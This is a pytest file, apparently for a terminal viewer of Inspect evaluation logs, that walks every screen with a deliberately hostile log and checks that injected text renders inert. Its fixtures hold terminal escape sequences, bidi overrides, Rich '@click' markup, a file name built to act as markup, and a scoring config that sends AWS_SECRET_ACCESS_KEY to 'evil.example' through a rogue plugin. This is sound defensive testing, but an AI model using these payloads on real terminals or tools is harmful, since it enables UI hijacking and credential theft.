"""Hostile run text on every screen: a real Inspect log (scripts/make_hostile_fixture.py) whose task,
model, sample ids, input, target, choices, output, tool calls and results, metadata keys and values,
score values, answers, explanations, score metadata and errors all hold markup that would act,
terminal escape sequences, bidi overrides and zero-width characters, under a file name that holds
them too. Each test's docstring says what the user sees.

Every check reads what the screen really draws (the compositor's strips): no control byte, no
link, no click action coming from the data, the markup shown as the literal text it is.
"""

from __future__ import annotations

import shutil
import sys
from pathlib import Path

import pytest
from conftest import settle

from evtui.app.app import EvtuiApp
from evtui.app.formatting import middle_ellipsis
from evtui.app.screens.run import RunScreen
from evtui.app.screens.runs import RunsScreen
from evtui.app.screens.sample import SampleScreen
from evtui.app.screens.samples import SamplesScreen
from evtui.app.widgets.sql_table.table import SqlTable
from evtui.store.location import default_index_path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from hostile_strings import FORBIDDEN_CHARS  # noqa: E402

HOSTILE_LOG = Path(__file__).resolve().parents[1] / "data" / "inspect" / "hostile.eval"
FILE_NAME = "run\x1b]0;PWN\x07[@click=app.quit]x\u202eevil.eval"
# The only click actions evtui draws itself (tabs, footer keys, buttons…) never name these.
DATA_ACTIONS = ("screenshot", "app.quit", "passwd", "evil")  # and any link at all, below


@pytest.fixture
def hostile_dir(tmp_path) -> Path:
    directory = tmp_path / "logs"
    directory.mkdir()
    shutil.copy2(HOSTILE_LOG, directory / FILE_NAME)
    shutil.copy2(HOSTILE_LOG, directory / "second copy.eval")  # two runs, for compare
    # A file that fails, named to act as markup and escapes in the failed-files dialog (f).
    (directory / "[link=evil.example]x\x1b]0;T\x07[@click=app.quit]q.eval").write_bytes(b"PK\x03\x04 not a zip")
    return directory


def drawn(app) -> list[list]:
    """The screen as drawn: rows of segments."""
    return [list(strip) for strip in app.screen._compositor.render_strips()]


def assert_safe(app, where: str) -> str:
    """No control byte, bidi override or zero-width character on screen, no link and no click
    action from the data; returns the screen's text."""
    rows = drawn(app)
    text = "\n".join("".join(segment.text for segment in row) for row in rows)
    bad = sorted({repr(char) for char in text if char in FORBIDDEN_CHARS})
    assert not bad, f"{where}: raw characters on screen: {bad}"
    for row in rows:
        for segment in row:
            style = segment.style
            if style is None:
                continue
            assert not style.link, f"{where}: a link on screen: {style.link!r} over {segment.text!r}"
            click = str((style.meta or {}).get("@click", ""))
            assert not any(action in click for action in DATA_ACTIONS), f"{where}: action {click!r} on {segment.text!r}"
    return text


async def click_hostile_text(app, pilot, where: str) -> None:
    """Click every cell that shows data markup: nothing happens (no quit, no file, same screen)."""
    screen = app.screen
    rows = drawn(app)
    for y, row in enumerate(rows):
        x = 0
        for segment in row:
            if "@click" in segment.text or "CLICKME" in segment.text or "[link" in segment.text:
                await pilot.click(offset=(x + max(segment.text.find("["), 0), y))
                await pilot.pause()
                assert app.is_running, f"{where}: a click on the data quit the app"
                assert app.screen is screen or not isinstance(app.screen, type(screen)), where
            x += segment.cell_length
    assert not list(Path("/tmp").glob("pwn.svg")), f"{where}: the data wrote a file"
    # A click may open what the row opens (a run, a sample): come back to where we were.
    while app.screen is not screen and len(app.screen_stack) > 1:
        app.pop_screen()
        await pilot.pause()


async def walk(app, pilot, size: str) -> list[str]:
    """Every screen, tab and dialog of the hostile run; returns where it looked."""
    seen: list[str] = []

    async def look(where: str, *, click: bool = True) -> str:
        await settle(app, pilot)
        text = assert_safe(app, f"{size} {where}")
        if click:
            await click_hostile_text(app, pilot, f"{size} {where}")
        seen.append(where)
        return text

    async def dialog(key: str, where: str) -> None:
        screen = app.screen
        await pilot.press(key)
        await look(where, click=False)
        if app.screen is not screen:
            await pilot.press("escape")
            await settle(app, pilot)
        assert app.screen is screen, f"{size} {where}: escape did not close it"

    assert isinstance(app.screen, RunsScreen)
    await look("runs list")
    file_cells = [str(app.screen.query_one("#runs-table").get_row_at(i)[2]) for i in range(2)]  # the Run column
    name = middle_ellipsis("run␛]0;PWN␇[@click=app.quit]x<U+202E>evil.eval", app.screen.query_one("#runs-table").name_cap())
    assert name in file_cells, file_cells
    assert app.failure_count == 1
    await dialog("f", "failed files")
    await dialog("question_mark", "help")
    await dialog("s", "configure scoring (runs)")
    await dialog("J", "jobs")
    await pilot.press("space", "down", "space", "c")
    await look("compare", click=False)
    await pilot.press("escape")
    await settle(app, pilot)

    runs = app.screen
    index = next(i for i, run in enumerate(runs.runs) if Path(run.path).name == FILE_NAME)
    runs.query_one("#runs-table").move_cursor(row=index)
    await pilot.press("enter")
    await settle(app, pilot)
    assert isinstance(app.screen, RunScreen)
    text = await look("run")
    assert "[@click=app.screenshot" in text, "the task name's markup is shown as text"
    await dialog("x", "export (run)")
    await dialog("s", "configure scoring (run)")
    await pilot.press("g")
    await look("groups", click=False)
    await pilot.press("escape")
    await pilot.press("d")
    await look("distribution", click=False)
    await pilot.press("escape")
    await settle(app, pilot)

    await pilot.press("enter")
    await settle(app, pilot)
    assert isinstance(app.screen, SamplesScreen)
    await look("samples list")
    await dialog("m", "metadata columns")
    await dialog("x", "export (samples)")
    table = app.screen.query_one(SqlTable)
    for row in range(3):
        table.cursor_row = row
        await pilot.pause()
        await pilot.press("enter")
        await settle(app, pilot)
        assert isinstance(app.screen, SampleScreen)
        for key, tab in (("o", "overview"), ("t", "transcript"), ("v", "events"), ("s", "scores"), ("m", "metadata")):
            await pilot.press(key)
            await look(f"sample {row + 1} {tab}")
            if tab == "transcript":
                for _ in range(5):  # the rest of the conversation
                    await pilot.press("pagedown")
                    await look(f"sample {row + 1} transcript, scrolled", click=False)
        if app.screen.view is not None and app.screen.view.scores:
            await pilot.press("s", "tab", "e")
            await look(f"sample {row + 1} edit score", click=False)
            await pilot.press("escape")
        await pilot.press("escape")
        await settle(app, pilot)
    return seen


@pytest.mark.parametrize("size", [(160, 45), (80, 24)], ids=["160x45", "80x24"])
async def test_every_screen_tab_and_dialog_shows_hostile_text_inert(hostile_dir, size):
    """Runs list, failed files, help, scoring, jobs, compare, run, export, groups, distribution,
    samples list, metadata columns, and each sample's five tabs and review dialog: the user sees
    `␛]0;…␇`, `<U+202E>`, `[@click=…]` as plain text; the window title, clipboard and links are
    untouched and no click on the text acts."""
    app = EvtuiApp(db_path=default_index_path(hostile_dir), ingest_paths=[hostile_dir])
    async with app.run_test(size=size) as pilot:
        await settle(app, pilot)
        seen = await walk(app, pilot, f"{size[0]}x{size[1]}")
        assert app.is_running
    assert len(seen) >= 30, seen


async def test_notifications_quoting_run_text_are_inert(hostile_dir, monkeypatch):
    """Copying a hostile sample id (y on the sample screen) notifies `Copied sample id id1:[@click…␛…`:
    shown as text, no markup read, no escape byte drawn."""
    monkeypatch.setenv("EVTUI_CLIPBOARD", "osc52")
    app = EvtuiApp(db_path=default_index_path(hostile_dir), ingest_paths=[hostile_dir])
    async with app.run_test(size=(160, 45)) as pilot:
        await settle(app, pilot)
        runs = app.screen
        runs.query_one("#runs-table").move_cursor(row=next(i for i, r in enumerate(runs.runs) if Path(r.path).name == FILE_NAME))
        await pilot.press("enter")
        await settle(app, pilot)
        await pilot.press("enter")
        await settle(app, pilot)
        await pilot.press("enter")
        await settle(app, pilot)
        assert isinstance(app.screen, SampleScreen)
        await pilot.press("y")
        await settle(app, pilot)
        await pilot.pause(0.3)
        (note,) = [n for n in app._notifications if "Copied sample id" in n.message]
        assert note.markup is False and "\x1b" not in note.message and "␛]52;c;" in note.message
        assert_safe(app, "notification")


async def open_dialog(app, pilot, key: str, kind: type):
    """From the runs screen once indexed: press `key`, return the dialog it opens."""
    await settle(app, pilot)
    await pilot.press(key)
    await settle(app, pilot)
    assert isinstance(app.screen, kind)
    return app.screen


async def test_the_export_dialog_asks_before_replacing_a_file(hostile_dir, tmp_path):
    """x, a path that exists, Enter: the dialog says `… exists. Export again to replace it`, the
    file is untouched; Enter again replaces it. A CSV of the runs list neutralises nothing that is
    not a formula and keeps the task text exactly."""
    import csv

    from evtui.app.dialogs.export_view import ExportViewDialog

    target = tmp_path / "runs.csv"
    target.write_text("precious\n")
    app = EvtuiApp(db_path=default_index_path(hostile_dir), ingest_paths=[hostile_dir])
    async with app.run_test(size=(160, 45)) as pilot:
        dialog = await open_dialog(app, pilot, "x", ExportViewDialog)
        dialog.query_one("#export-path").value = str(target)
        await pilot.press("enter")
        await settle(app, pilot)
        assert app.screen is dialog and target.read_text() == "precious\n"
        assert "exists. Export again to replace it" in str(dialog.query_one("#export-status").render())
        assert_safe(app, "export dialog, asking")
        await pilot.press("enter")
        await settle(app, pilot)
        assert not isinstance(app.screen, ExportViewDialog)
    with target.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert rows and rows[0]["Task"].startswith("task:[@click=app.screenshot")


async def test_a_found_scoring_configuration_waits_for_the_users_say_so(tmp_path, monkeypatch):
    """s, then picking a saved configuration that names its own grader URL, key variable and a
    plugin: a warning lists each, nothing is loaded and the plugin does not run; picking it again
    loads it."""
    from evtui.app.dialogs.configure_scoring import ConfigureScoringDialog

    monkeypatch.delenv("EVTUI_GRADER_URL", raising=False)
    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)
    monkeypatch.chdir(tmp_path)
    logs = tmp_path / "logs"
    logs.mkdir()
    shutil.copy2(HOSTILE_LOG.parent / "qa_match.eval", logs / "qa_match.eval")
    configs = logs / ".evtui" / "configs"
    configs.mkdir(parents=True)
    (logs / "steal.py").write_text(
        "from evtui.scoring import scorer\nopen('PWNED', 'w').write('ran')\n\n\n"
        "@scorer\ndef stolen(outputs) -> bool:\n    return True\n"
    )
    (configs / "found.toml").write_text(
        'scorers = ["model_graded_qa(base_url=\'http://evil.example/v1\', api_key_env=\'AWS_SECRET_ACCESS_KEY\')"]\n'
        f'plugins = ["{logs / "steal.py"}"]\n'
    )
    app = EvtuiApp(db_path=default_index_path(logs), ingest_paths=[logs])
    async with app.run_test(size=(160, 45)) as pilot:
        dialog = await open_dialog(app, pilot, "s", ConfigureScoringDialog)
        dialog.query_one("#config-saved").value = "found"
        await settle(app, pilot)
        (warning,) = [n for n in app._notifications if "did not choose" in n.message]
        for asked in ("http://evil.example/v1", "'AWS_SECRET_ACCESS_KEY'", "steal.py", "Pick it again"):
            assert asked in warning.message
        assert dialog.chosen == [] and not (tmp_path / "PWNED").exists()
        dialog.query_one("#config-saved").value = "found"
        await settle(app, pilot)
        assert [item.name for item in dialog.chosen] == ["model_graded_qa"], [n.message for n in app._notifications]
        assert (tmp_path / "PWNED").exists()  # the plugin ran once the user said so
